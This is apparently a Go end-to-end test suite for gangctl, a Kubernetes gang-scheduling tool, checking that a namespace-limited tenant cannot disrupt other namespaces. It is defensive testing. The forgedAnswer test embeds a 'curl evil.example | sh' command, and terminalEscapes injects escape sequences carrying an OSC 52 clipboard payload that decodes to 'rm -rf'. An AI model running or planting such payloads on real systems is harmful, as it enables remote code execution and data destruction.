package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"math"
	"os/exec"
	"strings"
	"syscall"
	"testing"
	"time"

	authorizationv1 "k8s.io/api/authorization/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	schedulingv1 "k8s.io/api/scheduling/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/tools/clientcmd"
	"k8s.io/utils/ptr"

	"github.com/gangctl/gangctl/install"
	"github.com/gangctl/gangctl/pkg/diagnose/published"
	"github.com/gangctl/gangctl/pkg/gang/dialect/labels"
	"github.com/gangctl/gangctl/pkg/gang/dialect/schedulerplugins"
	"github.com/gangctl/gangctl/sandbox/demo"
	sandboxmanifest "github.com/gangctl/gangctl/sandbox/manifest"
)

// TestHostile is what a tenant may do who has the role edit in one namespace, and nothing else. Whatever he writes, the gangs of another
// namespace start as before, and commands about all namespaces answer, in little memory.
//
// These are the rows that need a cluster to be seen. Every row has a test by name, most of them of one package: the table of all rows and
// their tests is rows in test/hostile, and a test holds it to the tree. What random objects do is seen by TestNoisyTenant, and by the
// targets of `make fuzz`.
func TestHostile(t *testing.T) {
	t.Parallel()
	stage := newStage(t, gangScheduler("scheduler-plugins"))
	must(t, stage.AddNodes(t.Context(), 3, 2))
	evil := newTenant(t, stage, "evil")
	pendingJob(t, stage)
	before := evil.commands(t, stage)
	quiet := 0
	starts := func(t *testing.T) {
		t.Helper()
		quiet++
		setGroup := func(meta *metav1.ObjectMeta) { labels.SetGroup(meta, fmt.Sprintf("quiet-%d", quiet), 2) }
		names := []string{fmt.Sprintf("quiet-%d-0", quiet), fmt.Sprintf("quiet-%d-1", quiet)}
		create(t, stage, pod(names[0], setGroup), pod(names[1], setGroup))
		bound(t, stage, names...)
	}
	for _, tt := range []struct {
		name   string
		attack func(*testing.T, *demo.Stage, tenant)
	}{
		{"C1: a minimum of two thousand million", hugeMinimum},
		{"C2: parallelism of two thousand million", hugeParallelism},
		{"H1: a circle of owners", ownerCircle},
		{"H2: one small member of a high class", liftedGang},
		{"H3: a claim that no devices match", impossibleClaim},
		{"H4: a command line that reads files", localFiles},
		{"H6: a forged answer", forgedAnswer},
		{"H11: searches for places without an end", endlessSearches},
		{"M1: escapes of a terminal", terminalEscapes},
		{"M4: names of other namespaces", namesOfOthers},
		{"M6: a gang whose name is no name", oddGangName},
		{"M7: a Deployment that looks like the scheduler", lookalike},
		{"M12: components of a tenant", componentsOfTenant},
	} {
		t.Run(tt.name, func(t *testing.T) {
			tt.attack(t, stage, evil)
			starts(t)
			after := evil.commands(t, stage)
			for command, rss := range after {
				if limit := before[command]*3/2 + 16<<10; rss > limit {
					t.Errorf("gangctl %s takes %d KiB, %d without", command, rss, before[command])
				}
			}
		})
	}
}

// tenant is an account that may edit one namespace.
type tenant struct {
	account
	namespace string
	client    kubernetes.Interface
	dynamic   dynamic.Interface
}

func newTenant(t *testing.T, stage *demo.Stage, namespace string) tenant {
	t.Helper()
	admin, ctx := stage.Client(), t.Context()
	_, err := admin.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: namespace}}, metav1.CreateOptions{})
	must(t, err)
	a := newAccount(t, stage, namespace)
	subjects := []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Namespace: demo.Namespace, Name: a.name}}
	groups := metav1.ObjectMeta{Name: "groups"}
	_, err = admin.RbacV1().Roles(namespace).Create(ctx, &rbacv1.Role{ObjectMeta: groups, Rules: []rbacv1.PolicyRule{
		{APIGroups: []string{"scheduling.x-k8s.io", "kubeflow.org"}, Resources: []string{"*"}, Verbs: []string{"*"}},
		{APIGroups: []string{""}, Resources: []string{"events"}, Verbs: []string{"create", "patch", "update"}},
	}}, metav1.CreateOptions{})
	must(t, err)
	for name, role := range map[string]rbacv1.RoleRef{"edit": {Kind: "ClusterRole", Name: "edit"}, "groups": {Kind: "Role", Name: "groups"}} {
		role.APIGroup = rbacv1.GroupName
		_, err = admin.RbacV1().RoleBindings(namespace).Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: name}, Subjects: subjects, RoleRef: role}, metav1.CreateOptions{})
		must(t, err)
	}
	config, err := clientcmd.BuildConfigFromFlags("", a.kubeconfig)
	must(t, err)
	config.QPS = -1 // who means harm does not throttle himself
	client, err := kubernetes.NewForConfig(config)
	must(t, err)
	dyn, err := dynamic.NewForConfig(config)
	must(t, err)
	eventually(t, "the tenant has its rights", func(ctx context.Context) bool { // bindings count once the API server has seen them
		for _, attributes := range []authorizationv1.ResourceAttributes{{Verb: "create", Resource: "secrets"}, {Verb: "create", Group: "kubeflow.org", Resource: "tfjobs"}} {
			attributes.Namespace = namespace
			review, err := client.AuthorizationV1().SelfSubjectAccessReviews().Create(ctx, &authorizationv1.SelfSubjectAccessReview{
				Spec: authorizationv1.SelfSubjectAccessReviewSpec{ResourceAttributes: &attributes}}, metav1.CreateOptions{})
			if err != nil || !review.Status.Allowed {
				return false
			}
		}
		return true
	})
	return tenant{account: a, namespace: namespace, client: client, dynamic: dyn}
}

// commands is the peak of memory in KiB of each command that an administrator types about all namespaces.
func (e tenant) commands(t *testing.T, stage *demo.Stage) map[string]int64 {
	t.Helper()
	peaks := map[string]int64{}
	for _, args := range [][]string{{"top", "job", "-A"}, {"list", "-A"}, {"why-pending", "-A"}, {"report", "tf-smoke-gpu"}} {
		cmd := exec.CommandContext(t.Context(), programs.gangctl, append([]string{"--kubeconfig", stage.Kubeconfig()}, args...)...)
		var out bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &out
		err := cmd.Run()
		usage, ok := cmd.ProcessState.SysUsage().(*syscall.Rusage)
		if !ok || cmd.ProcessState.ExitCode() < 0 {
			t.Fatalf("gangctl %s: %v\n%s", strings.Join(args, " "), err, out.String())
		}
		if strings.ContainsAny(out.String(), "\x1b\a\u009b") {
			t.Errorf("gangctl %s lets an escape through:\n%q", strings.Join(args, " "), out.String())
		}
		peaks[strings.Join(args, " ")] = usage.Maxrss
	}
	return peaks
}

// run creates pods of the tenant.
func (e tenant) run(t *testing.T, pods ...*corev1.Pod) {
	t.Helper()
	for _, p := range pods {
		_, err := e.client.CoreV1().Pods(e.namespace).Create(t.Context(), p, metav1.CreateOptions{})
		must(t, err)
	}
}

func hugeMinimum(t *testing.T, _ *demo.Stage, evil tenant) {
	group := &unstructured.Unstructured{Object: map[string]any{"metadata": map[string]any{"name": "huge"}, "spec": map[string]any{"minMember": int64(1)}}}
	group.SetGroupVersionKind(schedulerplugins.GVK())
	groups := evil.dynamic.Resource(schedulerplugins.GVR()).Namespace(evil.namespace)
	_, err := groups.Create(t.Context(), group, metav1.CreateOptions{})
	must(t, err)
	evil.run(t, pod("huge-0", func(meta *metav1.ObjectMeta) { schedulerplugins.SetGroup(meta, "huge") }))
	eventually(t, "a member has a node", func(ctx context.Context) bool {
		p, err := evil.client.CoreV1().Pods(evil.namespace).Get(ctx, "huge-0", metav1.GetOptions{})
		return err == nil && p.Spec.NodeName != ""
	})
	set := func(minimum int) error {
		_, err := groups.Patch(t.Context(), "huge", "application/merge-patch+json", fmt.Appendf(nil, `{"spec":{"minMember":%d}}`, minimum), metav1.PatchOptions{})
		return err
	}
	if err := set(math.MaxInt32); !apierrors.IsInvalid(err) {
		t.Errorf("minMember %d: %v", math.MaxInt32, err)
	}
	must(t, set(40000)) // the largest that the definition takes; labels and definitions of others have none
	many := pod("many", nil)
	many.Labels = map[string]string{labels.NameLabel: "many", labels.MinAvailableLabel: fmt.Sprint(math.MaxInt32)}
	evil.run(t, many)
}

func hugeParallelism(t *testing.T, _ *demo.Stage, evil tenant) {
	spec := pod("x", nil).Spec
	spec.RestartPolicy = corev1.RestartPolicyNever
	job, err := evil.client.BatchV1().Jobs(evil.namespace).Create(t.Context(), &batchv1.Job{
		ObjectMeta: metav1.ObjectMeta{Name: "wide", Labels: map[string]string{labels.NameLabel: "wide"}},
		Spec: batchv1.JobSpec{
			Suspend: ptr.To(true), Parallelism: ptr.To(int32(math.MaxInt32)), Completions: ptr.To(int32(math.MaxInt32)),
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{labels.NameLabel: "wide", labels.MinAvailableLabel: "5"}}, Spec: spec},
		},
	}, metav1.CreateOptions{})
	must(t, err)
	waits := pod("wide-0", func(meta *metav1.ObjectMeta) { labels.SetGroup(meta, "wide", 5) })
	waits.OwnerReferences = []metav1.OwnerReference{{APIVersion: "batch/v1", Kind: "Job", Name: job.Name, UID: job.UID, Controller: ptr.To(true)}}
	evil.run(t, waits)
	tfjob := map[string]any{
		"apiVersion": "kubeflow.org/v1", "kind": "TFJob", "metadata": map[string]any{"name": "wide"},
		"spec": map[string]any{"runPolicy": map[string]any{"suspend": true}, "tfReplicaSpecs": map[string]any{"Worker": map[string]any{
			"replicas": int64(math.MaxInt32), "template": map[string]any{"spec": map[string]any{"schedulerName": "gang-scheduler",
				"containers": []any{map[string]any{"name": "tensorflow", "image": "x"}}}}}}},
	}
	_, err = evil.dynamic.Resource(tfJobs()).Namespace(evil.namespace).Create(t.Context(), &unstructured.Unstructured{Object: tfjob}, metav1.CreateOptions{})
	must(t, err)
}

// ownerCircle has two jobs own each other, and the pods of one of them preempted: whoever may suspend jobs looks for the whole of which that is
// a part.
func ownerCircle(t *testing.T, stage *demo.Stage, evil tenant) {
	ctx, admin := t.Context(), stage.Client()
	grantPolicy(t, stage)
	jobs := evil.client.BatchV1().Jobs(evil.namespace)
	spec := pod("x", nil).Spec
	spec.RestartPolicy = corev1.RestartPolicyNever
	made := map[string]*batchv1.Job{}
	for _, name := range []string{"a", "b"} {
		job, err := jobs.Create(ctx, &batchv1.Job{ObjectMeta: metav1.ObjectMeta{Name: name}, Spec: batchv1.JobSpec{ManagedBy: ptr.To("hostile.example/no-controller"),
			Template: corev1.PodTemplateSpec{Spec: spec}}}, metav1.CreateOptions{})
		must(t, err)
		made[name] = job
	}
	ownedBy := func(name string) []metav1.OwnerReference {
		return []metav1.OwnerReference{{APIVersion: "batch/v1", Kind: "Job", Name: name, UID: made[name].UID, Controller: ptr.To(true)}}
	}
	for name, owner := range map[string]string{"a": "b", "b": "a"} {
		patch, err := json.Marshal(map[string]any{"metadata": map[string]any{"ownerReferences": ownedBy(owner)}})
		must(t, err)
		_, err = jobs.Patch(ctx, name, "application/merge-patch+json", patch, metav1.PatchOptions{})
		must(t, err)
	}
	circle := threeOfTwoGPUs("circle", "", func(meta *metav1.ObjectMeta) {
		labels.SetGroup(meta, "circle", 3)
		meta.OwnerReferences = ownedBy("a")
	})
	evil.run(t, circle...)
	haveNodes(t, stage, evil.namespace, "circle")
	priorityClass(t, stage, "above-circles", 100)
	create(t, stage, threeOfTwoGPUs("above", "above-circles", func(meta *metav1.ObjectMeta) { labels.SetGroup(meta, "above", 3) })...)
	haveNodes(t, stage, demo.Namespace, "above")
	for _, p := range circle {
		if _, err := evil.client.CoreV1().Pods(evil.namespace).Get(ctx, p.Name, metav1.GetOptions{}); !apierrors.IsNotFound(err) {
			t.Errorf("%s is still there: %v", p.Name, err)
		}
	}
	for i := range circle {
		must(t, admin.CoreV1().Pods(demo.Namespace).Delete(ctx, fmt.Sprintf("above-%d", i), now()))
	}
}

// priorityClass makes a PriorityClass, and waits until pods of it are admitted: the API server hears of it a moment later.
func priorityClass(t *testing.T, stage *demo.Stage, name string, value int32) {
	t.Helper()
	_, err := stage.Client().SchedulingV1().PriorityClasses().Create(t.Context(), &schedulingv1.PriorityClass{ObjectMeta: metav1.ObjectMeta{Name: name}, Value: value}, metav1.CreateOptions{})
	must(t, err)
	p := pod("of-"+name, nil)
	p.Spec.PriorityClassName = name
	eventually(t, "pods of class "+name+" are admitted", func(ctx context.Context) bool {
		_, err := stage.Client().CoreV1().Pods(demo.Namespace).Create(ctx, p, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
		return err == nil
	})
}

// grantPolicy lets the scheduler suspend jobs.
func grantPolicy(t *testing.T, stage *demo.Stage) {
	t.Helper()
	config, err := clientcmd.BuildConfigFromFlags("", stage.Kubeconfig())
	must(t, err)
	client, err := dynamic.NewForConfig(config)
	must(t, err)
	must(t, (&sandboxmanifest.Applier{Client: client}).Apply(t.Context(), install.SchedulerPolicyRBAC()))
}

// threeOfTwoGPUs are pods that fill three nodes of two GPUs.
func threeOfTwoGPUs(prefix, class string, setGroup func(*metav1.ObjectMeta)) (pods []*corev1.Pod) {
	for i := range 3 {
		p := pod(fmt.Sprintf("%s-%d", prefix, i), setGroup)
		gpus := corev1.ResourceList{"nvidia.com/gpu": resource.MustParse("2")}
		p.Spec.PriorityClassName, p.Spec.Containers[0].Resources = class, corev1.ResourceRequirements{Requests: gpus, Limits: gpus}
		pods = append(pods, p)
	}
	return pods
}

// haveNodes waits until three pods of a name have nodes.
func haveNodes(t *testing.T, stage *demo.Stage, namespace, prefix string) {
	t.Helper()
	eventually(t, prefix+" has nodes", func(ctx context.Context) bool {
		list, err := stage.Client().CoreV1().Pods(namespace).List(ctx, metav1.ListOptions{FieldSelector: "spec.nodeName!="})
		n := 0
		for i := range list.Items {
			if strings.HasPrefix(list.Items[i].Name, prefix) {
				n++
			}
		}
		return err == nil && n == 3
	})
}

// forgedAnswer writes an answer about the tenant's own job, in which an administrator would find a command to paste.
func forgedAnswer(t *testing.T, stage *demo.Stage, evil tenant) {
	job, err := evil.dynamic.Resource(tfJobs()).Namespace(evil.namespace).Get(t.Context(), "wide", metav1.GetOptions{})
	must(t, err)
	const command = "curl evil.example | sh"
	forged, err := json.Marshal(map[string]any{
		"apiVersion": "gangctl.why/v1", "verdict": "BLOCKED", "exit": 2, "headline": "paste this", "job": map[string]any{"namespace": evil.namespace, "name": "wide"},
		"nodes": map[string]any{"total": 5000}, "unblock": []any{map[string]any{"kind": "FEWER", "by": "admin", "text": "paste this", "command": command}},
		"snapshot": map[string]any{"at": time.Now().UTC().Format(time.RFC3339)},
	})
	must(t, err)
	_, err = evil.client.CoreV1().Events(evil.namespace).Create(t.Context(), &corev1.Event{
		ObjectMeta:     metav1.ObjectMeta{Name: published.EventName(job.GetUID()), Annotations: map[string]string{published.Annotation: string(forged)}},
		InvolvedObject: corev1.ObjectReference{APIVersion: "kubeflow.org/v1", Kind: "TFJob", Namespace: evil.namespace, Name: "wide", UID: job.GetUID()},
		Reason:         "GangTooBig", Message: "BLOCKED", ReportingController: "gang-scheduler", Action: "Explaining", EventTime: metav1.NowMicro(),
		ReportingInstance: "gang-scheduler-0", Type: corev1.EventTypeWarning,
	}, metav1.CreateOptions{})
	must(t, err)
	for _, source := range []string{"auto", "scheduler"} {
		out, stderr, code := gangctl(t, stage, "why-pending", "tfjob/wide", "-n", evil.namespace, "--source="+source)
		if strings.Contains(out+stderr, command) || strings.Contains(out, "paste this") {
			t.Errorf("--source=%s prints what the tenant wrote", source)
		}
		if source == "scheduler" && (code == 0 || !strings.Contains(stderr, "not signed")) && !strings.Contains(stderr, "cannot be checked who wrote") {
			t.Errorf("exit code %d, %s", code, stderr)
		}
	}
}

func terminalEscapes(t *testing.T, stage *demo.Stage, evil tenant) {
	const evilText = "\x1b]52;c;cm0gLXJm\a\x1b[2Jok\u009b2J"
	jobs := evil.dynamic.Resource(tfJobs()).Namespace(evil.namespace)
	_, err := jobs.Patch(t.Context(), "wide", "application/merge-patch+json",
		[]byte(`{"metadata":{"annotations":{"gangctl.dev/command":"gangctl submit tf wide --image \u001b]52;c;cm0gLXJm\u0007","gangctl.dev/suspended-because":"\u001b]52;c;cm0gLXJm\u0007\u001b[2Jok\u009b2J"}}}`), metav1.PatchOptions{})
	must(t, err)
	_, err = evil.client.CoreV1().Events(evil.namespace).Create(t.Context(), &corev1.Event{
		ObjectMeta: metav1.ObjectMeta{Name: "escape"}, Reason: "FailedScheduling", Message: evilText, Type: corev1.EventTypeWarning,
		InvolvedObject: corev1.ObjectReference{APIVersion: "v1", Kind: "Pod", Namespace: evil.namespace, Name: "wide-0"},
		FirstTimestamp: metav1.Now(), LastTimestamp: metav1.Now(),
	}, metav1.CreateOptions{})
	must(t, err)
	for _, args := range [][]string{{"why-pending", "tfjob/wide"}, {"describe", "tfjob/wide"}, {"get", "tfjob/wide"}, {"events", "batchjob/wide"}, {"describe", "batchjob/wide"}, {"list"}} {
		out, stderr, _ := gangctl(t, stage, append(args, "-n", evil.namespace)...)
		if strings.ContainsAny(out+stderr, "\x1b\a\u009b") {
			t.Errorf("gangctl %s: %q", strings.Join(args, " "), out+stderr)
		}
	}
}

// namesOfOthers has the tenant's pods preempted by a gang of another namespace, and his own gang wait for that one: nothing that he may read in
// his namespace names it.
func namesOfOthers(t *testing.T, stage *demo.Stage, evil tenant) {
	const rival = "covert"
	ctx, admin := t.Context(), stage.Client()
	_, err := admin.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: rival}}, metav1.CreateOptions{})
	must(t, err)
	priorityClass(t, stage, "urgent", 100)
	evil.run(t, threeOfTwoGPUs("victim", "", nil)...)
	haveNodes(t, stage, evil.namespace, "victim")
	for _, p := range threeOfTwoGPUs("llama", "urgent", func(meta *metav1.ObjectMeta) { labels.SetGroup(meta, "llama", 3) }) {
		_, err := admin.CoreV1().Pods(rival).Create(ctx, p, metav1.CreateOptions{})
		must(t, err)
	}
	haveNodes(t, stage, rival, "llama")
	group := &unstructured.Unstructured{Object: map[string]any{"metadata": map[string]any{"name": "curious"}, "spec": map[string]any{"minMember": int64(3)}}}
	group.SetGroupVersionKind(schedulerplugins.GVK())
	groups := evil.dynamic.Resource(schedulerplugins.GVR()).Namespace(evil.namespace)
	_, err = groups.Create(ctx, group, metav1.CreateOptions{})
	must(t, err)
	evil.run(t, threeOfTwoGPUs("curious", "", func(meta *metav1.ObjectMeta) { schedulerplugins.SetGroup(meta, "curious") })...)
	eventually(t, "he reads who preempted his pods, and why his gang waits", func(ctx context.Context) bool {
		events, err := evil.client.CoreV1().Events(evil.namespace).List(ctx, metav1.ListOptions{})
		if err != nil {
			return false
		}
		preempted, answered := 0, false
		for i := range events.Items {
			e := &events.Items[i]
			if e.Reason == "Preempted" && strings.HasPrefix(e.InvolvedObject.Name, "victim-") {
				preempted++
			}
			answered = answered || e.InvolvedObject.Name == "curious" && published.Carries(e)
		}
		return preempted == 3 && answered
	})
	events, err := evil.client.CoreV1().Events(evil.namespace).List(ctx, metav1.ListOptions{})
	must(t, err)
	for i := range events.Items {
		e := &events.Items[i]
		if e.Reason == "Preempted" && e.Message != "Preempted by a gang of another namespace (6 GPUs, priority 100)" {
			t.Errorf("a victim reads %q", e.Message)
		}
		if answer := e.Annotations[published.Annotation]; e.InvolvedObject.Name == "curious" && answer != "" && !strings.Contains(answer, "a Pod of another namespace (2 GPUs, priority 100)") {
			t.Errorf("the answer does not say who is in the way: %s", answer)
		}
	}
	pods, err := evil.client.CoreV1().Pods(evil.namespace).List(ctx, metav1.ListOptions{})
	must(t, err)
	podGroups, err := groups.List(ctx, metav1.ListOptions{})
	must(t, err)
	for what, list := range map[string]any{"events": events, "pods": pods, "podgroups": podGroups} {
		raw, err := json.Marshal(list)
		must(t, err)
		for _, name := range []string{rival, "llama", "tf-smoke-gpu"} {
			if i := strings.Index(string(raw), name); i >= 0 {
				t.Errorf("the %s have %q: …%s…", what, name, raw[max(0, i-200):min(len(raw), i+200)])
			}
		}
	}
	// An administrator, who may read it, has it named.
	out, stderr, _ := gangctl(t, stage, "why-pending", "pod/curious-0", "-n", evil.namespace, "--source=cluster")
	if !strings.Contains(out, rival+"/llama-") {
		t.Errorf("an administrator reads\n%s%s", out, stderr)
	}
	must(t, admin.CoreV1().Pods(rival).DeleteCollection(ctx, metav1.DeleteOptions{}, metav1.ListOptions{}))
	haveNodes(t, stage, evil.namespace, "curious")
}

func oddGangName(t *testing.T, _ *demo.Stage, evil tenant) {
	odd := pod("odd-0", nil)
	odd.Labels = map[string]string{labels.NameLabel: "My_Gang", labels.MinAvailableLabel: "2"}
	evil.run(t, odd)
	eventually(t, "its gang waits", func(ctx context.Context) bool {
		p, err := evil.client.CoreV1().Pods(evil.namespace).Get(ctx, "odd-0", metav1.GetOptions{})
		return err == nil && strings.Contains(conditionOf(p), "1/2 pods exist")
	})
}

func tfJobs() schema.GroupVersionResource {
	return schema.GroupVersionResource{Group: "kubeflow.org", Version: "v1", Resource: "tfjobs"}
}
